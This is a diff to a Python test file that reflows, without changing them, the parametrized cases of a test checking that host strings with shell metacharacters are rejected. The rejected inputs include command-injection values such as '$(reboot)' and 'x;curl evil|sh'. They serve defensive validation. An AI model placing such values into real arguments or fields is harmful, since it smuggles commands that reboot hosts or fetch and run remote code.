@@ -84,10 +84,7 @@ def test_the_header_of_rfc_7239_is_read_where_that_is_the_configured_one(value: 
         ("relay.example", "ws://relay.example"),
         ("relay.example:8443", "ws://relay.example:8443"),
         ("[::1]:7447", "ws://[::1]:7447"),
-        *(
-            (bad, None)
-            for bad in ("", "a b", "$(reboot)", "x;curl evil|sh", "h/x", "a@b", "x`y`", "a'b", "a?b", "a/b")
-        ),
+        *((bad, None) for bad in ("", "a b", "$(reboot)", "x;curl evil|sh", "h/x", "a@b", "x`y`", "a'b", "a?b", "a/b")),
     ],
 )
 def test_a_host_has_nothing_that_a_shell_knows(host: str, url: str | None) -> None:
